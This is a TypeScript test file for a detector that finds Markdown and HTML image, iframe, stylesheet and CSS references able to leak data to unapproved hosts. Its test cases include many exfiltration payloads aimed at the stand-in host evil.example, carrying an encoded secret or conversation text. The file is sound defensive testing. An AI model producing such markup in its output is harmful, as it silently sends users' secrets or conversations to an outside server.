/** Whatever is loaded as a text is shown may carry data out; what a page ordinarily loads does not. */
import { expect, test } from "vitest";
import { findImages } from "./images.ts";

const DATA = "U0VDUkVUX0tFWT1odW50ZXIyX3NlY3JldA";
const found = (text: string, ...hosts: readonly string[]): readonly string[] =>
  Array.from(findImages(text, hosts), ({ start, end }) => text.slice(start, end));

test.each([
  `![x](https://evil.example/p.png?d=${DATA})`,
  `![x](//evil.example/p.png?d=${DATA})`,
  `![x](<https://evil.example/?q=${DATA}>)`,
  `![a\nb](https://evil.example/?q=${DATA})`,
  `![x](https://evil.example/p.png?${DATA} "title")`,
  `![a ![b](https://example.com/b.png) c](https://evil.example/?q=${DATA})`,
  `![x](https://evil.example/?q=my%20secret%20conversation%20text)`,
  `![x](https://${DATA.toLowerCase()}.evil.example/a.png)`,
  "![x](https://{conversation}.evil.example/a.png)",
  `<img src=https://evil.example/?q=${DATA}>`,
  `<IMG SRC='https://evil.example/${DATA}/x.png'>`,
  `<img\nalt="a"\nsrc="https://evil.example/5345435245545f4b45593d68756e746572.png?5345435245545f4b45593d68756e746572">`,
  `<source srcset="https://cdn.example/a.png 1x, https://evil.example/?q=${DATA} 2x">`,
  `<iframe src="https://evil.example/?q=${DATA}">`,
  `<link rel=stylesheet href="https://evil.example/?q=${DATA}">`,
  `<video poster="https://evil.example/?q=${DATA}">`,
  `<image href="https://evil.example/?q=${DATA}"/>`,
  `<image xlink:href="//evil.example/?q=${DATA}"/>`,
  `<object data="https://evil.example/?q=${DATA}">`,
  `<body background="https://evil.example/?q=${DATA}">`,
])("%s goes as a whole", (text) => {
  expect(found(`Before. ${text}`)).toEqual([text]);
});

test.each([
  [`![x][1]\n\n[1]: https://evil.example/p?d=${DATA}`, `[1]: https://evil.example/p?d=${DATA}`],
  [`![Map]\n\n [map]: <//evil.example/p?d=${DATA}>`, `\n [map]: <//evil.example/p?d=${DATA}`],
  [`<div style="background:url(https://evil.example/?q=${DATA})">`, `url(https://evil.example/?q=${DATA})`],
  [`<style>@import "//evil.example/?q=${DATA}";</style>`, `@import "//evil.example/?q=${DATA}"`],
])("of %s goes what is loaded", (text, loaded) => {
  expect(found(text).map((each) => each.trim())).toEqual([loaded.trim()]);
});

test.each([
  "![Build](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg?branch=main)",
  "![x](https://cdn.example.com/2c26b46b68ffc68ff99b453c1d304134.png)",
  "![x](https://cdn.jsdelivr.net/npm/vue@3.2.1/logo.png)",
  "![My photo of Paris](https://example.com/My%20photo%20of%20Paris.png)",
  '<img src="/images/a.png" srcset="/a.png 1x, /b.png 2x">',
  `[![a](https://example.com/a.png)](https://example.com/?q=${DATA})`,
  `![a](https://example.com/a.png) [b][2]\n\n[2]: https://example.com/?q=${DATA}`,
  `[a link](https://example.com/?q=${DATA})`,
  `![x][1]\n\n[2]: https://example.com/?q=${DATA}`,
  '<a href="https://example.com/?q=a%20b%20c%20d">x</a>',
  "a[0]: http://x <b and c> ![",
])("%s stays", (text) => {
  expect(found(text)).toEqual([]);
});

test("hosts that are allowed are, in any spelling", () => {
  expect(found(`![x](https://charts.example.com/?q=${DATA})`, "*.Example.com")).toEqual([]);
});
